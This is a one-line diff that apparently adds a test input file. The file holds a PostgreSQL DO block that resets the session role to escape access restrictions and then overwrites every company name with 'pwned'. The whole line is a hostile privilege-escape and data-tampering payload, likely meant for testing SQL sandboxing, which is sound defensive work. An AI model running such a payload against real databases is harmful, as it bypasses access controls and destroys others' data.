@@ -1,0 +1,1 @@
+DO $x$ BEGIN PERFORM set_config('role', 'none', false); UPDATE public.companies SET name = 'pwned'; END $x$;
